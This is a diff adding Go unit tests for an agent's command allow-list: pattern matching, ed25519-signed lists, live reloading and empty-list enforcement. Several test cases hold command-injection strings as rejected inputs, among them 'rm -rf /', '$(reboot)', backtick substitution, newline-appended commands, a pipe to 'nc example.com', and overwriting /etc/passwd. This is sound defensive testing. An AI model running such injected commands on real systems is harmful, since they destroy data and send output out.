@@ -1,8 +1,16 @@
 package agent
 
 import (
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
 	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -283,3 +291,193 @@ func TestMatchAllowList(t *testing.T) {
 		})
 	}
 }
+
+func TestAllowListInvalidMatch(t *testing.T) {
+	al := allowList{Exec: "foo", Args: []string{""}, Match: "fuzzy"}
+	assert.Error(t, al.validate())
+
+	_, err := readAllowList("allow_list.json", func(string) ([]byte, error) {
+		return []byte(`[{"exec": "foo", "args": ["(bar"], "match": "regex"}]`), nil
+	})
+	assert.Error(t, err)
+}
+
+func TestMatchAllowListPatterns(t *testing.T) {
+	entries, err := readAllowList("allow_list.yaml", func(string) ([]byte, error) {
+		return []byte(`
+        - exec: /opt/plugins/check-*
+          args:
+          - "-w ? -c ?"
+          - ""
+          match: glob
+        - exec: check-disk
+          args:
+          - "--mount /[a-z/]+ --warning [0-9]{2}"
+          match: regex
+        - exec: check-load
+          args:
+          - "*"
+          match: glob
+        - exec: check-mem
+          args:
+          - ".*"
+          match: regex
+        `), nil
+	})
+	require.NoError(t, err)
+
+	testCases := []struct {
+		command string
+		match   bool
+		exec    string
+	}{
+		{"/opt/plugins/check-cpu -w 8 -c 9", true, "/opt/plugins/check-*"},
+		{"/opt/plugins/check-cpu   -w 8  -c 9 ", true, "/opt/plugins/check-*"},
+		{"/opt/plugins/check-cpu", true, "/opt/plugins/check-*"},
+		{"/opt/plugins/check-cpu -w 80 -c 90", false, ""},
+		{"/opt/plugins/check-cpu -w 8 -c 9; rm -rf /", false, ""},
+		{"/usr/bin/check-cpu -w 8 -c 9", false, ""},
+		{"check-disk --mount /var/lib --warning 80", true, "check-disk"},
+		{"check-disk --mount /var/lib --warning 800", false, ""},
+		{"check-disk --mount /var/lib --warning 80 && reboot", false, ""},
+		{"mycheck-disk --mount /var/lib --warning 80", false, ""},
+		{"/opt/plugins/check-$(reboot) -w 8 -c 9", false, ""},
+		{"/opt/plugins/check-cpu -w 8 -c 9\nreboot", false, ""},
+		{"check-load -w 5 -c 10", true, "check-load"},
+		{"check-load -w 5 | nc example.com 80", false, ""},
+		{"check-load -w `reboot`", false, ""},
+		{"check-load -w 5\nreboot", false, ""},
+		{"check-mem --warning 80", true, "check-mem"},
+		{"check-mem --warning 80; reboot", false, ""},
+		{"check-mem --warning 80 > /etc/passwd", false, ""},
+	}
+	for _, tc := range testCases {
+		t.Run(tc.command, func(t *testing.T) {
+			agent := Agent{allowList: entries}
+			matched, match := agent.matchAllowList(tc.command)
+			assert.Equal(t, tc.match, match)
+			assert.Equal(t, tc.exec, matched.Exec)
+		})
+	}
+}
+
+func TestReadSignedAllowList(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+
+	content := []byte(`[{"exec": "my_script.sh", "args": [""]}]`)
+	signature := base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, content))
+	files := map[string][]byte{
+		"allow_list.json":     content,
+		"allow_list.json.sig": []byte(signature + "\n"),
+	}
+	readBytes := func(path string) ([]byte, error) {
+		if b, ok := files[path]; ok {
+			return b, nil
+		}
+		return nil, os.ErrNotExist
+	}
+
+	// The signature is valid
+	al, err := readSignedAllowList("allow_list.json", publicKey, readBytes)
+	require.NoError(t, err)
+	require.Len(t, al, 1)
+
+	// The signature is not verified without a public key
+	_, err = readSignedAllowList("allow_list.json", nil, readBytes)
+	require.NoError(t, err)
+
+	// The allow list was tampered with
+	files["allow_list.json"] = []byte(`[{"exec": "rm", "args": ["-rf /"]}]`)
+	_, err = readSignedAllowList("allow_list.json", publicKey, readBytes)
+	require.Error(t, err)
+
+	// The signature is missing
+	files["allow_list.json"] = content
+	delete(files, "allow_list.json.sig")
+	_, err = readSignedAllowList("allow_list.json", publicKey, readBytes)
+	require.Error(t, err)
+
+	// The public key requires an allow list
+	_, err = readSignedAllowList("", publicKey, readBytes)
+	require.Error(t, err)
+}
+
+func TestReadAllowListPublicKey(t *testing.T) {
+	publicKey, _, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+
+	key, err := readAllowListPublicKey("key", func(string) ([]byte, error) {
+		return []byte(base64.StdEncoding.EncodeToString(publicKey) + "\n"), nil
+	})
+	require.NoError(t, err)
+	assert.Equal(t, publicKey, key)
+
+	_, err = readAllowListPublicKey("key", func(string) ([]byte, error) {
+		return []byte(base64.StdEncoding.EncodeToString([]byte("short"))), nil
+	})
+	assert.Error(t, err)
+
+	key, err = readAllowListPublicKey("", nil)
+	require.NoError(t, err)
+	assert.Nil(t, key)
+}
+
+func TestWatchAllowList(t *testing.T) {
+	defer func(interval time.Duration) {
+		allowListReloadInterval = interval
+	}(allowListReloadInterval)
+	allowListReloadInterval = 10 * time.Millisecond
+
+	dir, err := ioutil.TempDir("", "allow_list")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+	path := filepath.Join(dir, "allow_list.yaml")
+	require.NoError(t, ioutil.WriteFile(path, []byte("- exec: foo\n  args: ['']\n"), 0644))
+
+	agent := &Agent{config: &Config{AllowList: path}}
+	require.NoError(t, agent.loadAllowList())
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	go agent.watchAllowList(ctx)
+
+	// An invalid allow list is not loaded
+	require.NoError(t, ioutil.WriteFile(path, []byte("- exec: bar\n"), 0644))
+	time.Sleep(100 * time.Millisecond)
+	_, match := agent.matchAllowList("foo")
+	assert.True(t, match)
+
+	// An empty allow list does not replace a non-empty one
+	require.NoError(t, ioutil.WriteFile(path, []byte("[]\n"), 0644))
+	time.Sleep(100 * time.Millisecond)
+	_, match = agent.matchAllowList("foo")
+	assert.True(t, match)
+
+	// A valid allow list replaces the current one
+	require.NoError(t, ioutil.WriteFile(path, []byte("- exec: bar\n  args: ['']\n"), 0644))
+	assert.Eventually(t, func() bool {
+		_, match := agent.matchAllowList("bar")
+		return match
+	}, time.Second, 10*time.Millisecond)
+	_, match = agent.matchAllowList("foo")
+	assert.False(t, match)
+}
+
+func TestEmptyAllowListIsEnforced(t *testing.T) {
+	dir, err := ioutil.TempDir("", "allow_list")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+	path := filepath.Join(dir, "allow_list.yaml")
+	require.NoError(t, ioutil.WriteFile(path, []byte("[]\n"), 0644))
+
+	agent := &Agent{config: &Config{AllowList: path}}
+	require.NoError(t, agent.loadAllowList())
+	assert.True(t, agent.allowListEnabled())
+	_, match := agent.matchAllowList("foo")
+	assert.False(t, match)
+
+	agent = &Agent{config: &Config{}}
+	require.NoError(t, agent.loadAllowList())
+	assert.False(t, agent.allowListEnabled())
+}